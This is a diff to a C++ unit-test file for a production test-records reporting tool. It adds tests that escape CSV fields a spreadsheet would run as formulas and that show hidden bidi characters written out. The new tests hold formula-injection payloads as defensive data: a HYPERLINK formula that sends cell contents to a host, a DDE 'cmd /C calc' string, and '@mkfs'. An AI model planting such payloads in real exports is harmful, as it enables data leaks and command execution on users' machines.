@@ -2,6 +2,7 @@
 
 #include <gtest/gtest.h>
 
+#include "records/csv_text.h"
 #include "records/record_samples.h"
 #include "records/sqlite_store.h"
 #include "records/yield_chart.h"
@@ -184,7 +185,7 @@ TEST(UnitYieldReport, units_are_serials_else_imeis_else_runs_and_group_by_port_a
   const auto ports = records::build_grouped_report(store, {}, records::GroupBy::kPort, 3);
   ASSERT_EQ(ports.size(), 2u);
   EXPECT_EQ(ports[0].customer, "station-a port 1");
-  EXPECT_EQ(ports[0].units, 3);
+  EXPECT_EQ(ports[0].units, 3);            // S1, bb, the run of its own
   EXPECT_EQ(ports[0].unit_first_runs, 3);  // S1 began here
   EXPECT_EQ(ports[0].unit_first_pass, 0);
   EXPECT_EQ(ports[0].unit_final_pass, 1);  // S1 passed in the end, elsewhere
@@ -197,7 +198,7 @@ TEST(UnitYieldReport, units_are_serials_else_imeis_else_runs_and_group_by_port_a
             std::string::npos)
       << table;
   EXPECT_NE(records::format_grouped_csv(ports, records::GroupBy::kPort)
-                .find("station-a port 2,2,0,2,1,1,100.0,1,100.0,0,,,,0,0\n"),
+                .find("station-a port 2,2,0,1,1,1,100.0,1,100.0,0,,,,0,0\n"),
             std::string::npos);
 
   const auto operators = records::build_grouped_report(store, {}, records::GroupBy::kOperator, 3);
@@ -207,4 +208,103 @@ TEST(UnitYieldReport, units_are_serials_else_imeis_else_runs_and_group_by_port_a
   EXPECT_EQ(operators[1].unit_first_runs, 2);
   EXPECT_EQ(operators[2].customer, "ben");
   EXPECT_EQ(operators[2].unit_first_runs, 1);  // S2; S1 was anna's first
+}
+
+// What a spreadsheet would run as a formula is written as text; numbers,
+// negative ones too, stay numbers.
+TEST(ReportCsv, fields_a_spreadsheet_would_take_for_formulas_are_written_as_text) {
+  EXPECT_EQ(records::csv_text_field("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"");
+  EXPECT_EQ(records::csv_text_field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+  EXPECT_EQ(records::csv_text_field("-2+3"), "'-2+3");
+  EXPECT_EQ(records::csv_text_field("-"), "'-");
+  EXPECT_EQ(records::csv_text_field("@SUM(A1:A9)"), "'@SUM(A1:A9)");
+  EXPECT_EQ(records::csv_text_field("\t=1"), "'\t=1");
+  EXPECT_EQ(records::csv_text_field("\r=1"), "\"'\r=1\"");
+  for (const char* plain : {"anna", "4.1", "", "-12", "-0.5", "a=b", "x-1", "'quoted"}) {
+    EXPECT_EQ(records::csv_text_field(plain), plain);
+  }
+  EXPECT_EQ(records::csv_text_field("-1."), "'-1.");
+  EXPECT_EQ(records::csv_text_field("-1.2.3"), "'-1.2.3");
+
+  records::ReportRow row;
+  row.customer = "=1+1";  // an operator id, grouped --by operator
+  row.runs = 2;
+  row.failing_line = -4;  // a number, as a store may hold one
+  row.failing_text = "@mkfs";
+  row.failing_count = 2;
+  const std::string csv = records::format_grouped_csv({row}, records::GroupBy::kOperator);
+  EXPECT_NE(csv.find("\n'=1+1,2,0,0,0,0,,0,,0,-4,'@mkfs,2\n"), std::string::npos) << csv;
+  row.day = "2024-03-01";
+  EXPECT_NE(records::format_csv({row}).find("\n2024-03-01,'=1+1,2,"), std::string::npos);
+}
+
+// An operator id or a serial stored before such characters were refused:
+// the report shows them written out, in its table, its CSV and its window.
+TEST(UnitYieldReport, stored_characters_that_hide_or_reorder_text_are_shown_written_out) {
+  testing_support::TempDir dir;
+  {
+    records::SqliteStore store("runs.sqlite", records::OpenFor::kWriting);
+    records::RunRecord r = red_record("1\u2066", "aa", 3, "mkfs\u202E", 0, 1);
+    r.operator_id = std::string("ann\u202Ea\xc2\x85");
+    store.append(std::vector<records::RunRecord>{r});
+  }
+  records::SqliteStore store("runs.sqlite", records::OpenFor::kReading);
+  const auto operators = records::build_grouped_report(store, {}, records::GroupBy::kOperator, 3);
+  ASSERT_EQ(operators.size(), 1u);
+  EXPECT_EQ(operators[0].customer, "ann\\u202Ea\\u0085");
+  EXPECT_EQ(operators[0].failing_text, "mkfs\\u202E");
+  const auto days = records::build_report(store, {});
+  ASSERT_EQ(days.size(), 1u);
+  EXPECT_EQ(days[0].customer, "1\\u2066");
+  const std::string table = records::format_table(days);
+  EXPECT_NE(table.find("1\\u2066"), std::string::npos) << table;
+  EXPECT_EQ(table.find("\u2066"), std::string::npos) << table;
+  EXPECT_NE(records::format_grouped_csv(operators, records::GroupBy::kOperator)
+                .find("\nann\\u202Ea\\u0085,1,"),
+            std::string::npos);
+}
+
+// Each unit loaded twice, its runs on two ports, by two operators, for two
+// customers: every unit counts, with its yields, where its first run was,
+// so no group shows units without their yields.
+TEST(UnitYieldReport, grouped_a_unit_counts_with_its_yields_for_the_group_of_its_first_run) {
+  testing_support::TempDir dir;
+  {
+    records::SqliteStore store("runs.sqlite", records::OpenFor::kWriting);
+    std::vector<records::RunRecord> runs;
+    for (int unit = 0; unit < 4; ++unit) {
+      const std::string serial = "S" + std::to_string(unit);
+      for (int attempt = 0; attempt < 2; ++attempt) {
+        const bool first = attempt == 0;
+        records::RunRecord r =
+            first && unit % 2 == 0
+                ? red_record(first ? "1" : "2", nullptr, 4, "ti", 0, unit * 10)
+                : sample_record(first ? "1" : "2", nullptr, "green", 0, unit * 10 + attempt);
+        r.unit_serial = serial;
+        r.port = first ? 1 : 2;
+        r.operator_id = first ? "anna" : "ben";
+        runs.push_back(r);
+      }
+    }
+    store.append(runs);
+  }
+  records::SqliteStore store("runs.sqlite", records::OpenFor::kReading);
+  for (const auto by :
+       {records::GroupBy::kPort, records::GroupBy::kOperator, records::GroupBy::kCustomer}) {
+    const auto rows = records::build_grouped_report(store, {}, by, 3);
+    ASSERT_EQ(rows.size(), 2u);
+    EXPECT_EQ(rows[0].runs, 4);
+    EXPECT_EQ(rows[0].units, 4);
+    EXPECT_DOUBLE_EQ(rows[0].first_pass_percent().value_or(-1), 50.0);
+    EXPECT_DOUBLE_EQ(rows[0].final_percent().value_or(-1), 100.0);
+    // The second runs' group began no unit: no units, and no yields.
+    EXPECT_EQ(rows[1].runs, 4);
+    EXPECT_EQ(rows[1].units, 0);
+    EXPECT_FALSE(rows[1].first_pass_percent());
+  }
+  // Per day, a day's units are still the units handled that day.
+  const auto days = records::build_report(store, {});
+  ASSERT_EQ(days.size(), 2u);  // customers 1 and 2
+  EXPECT_EQ(days[1].units, 4);
 }
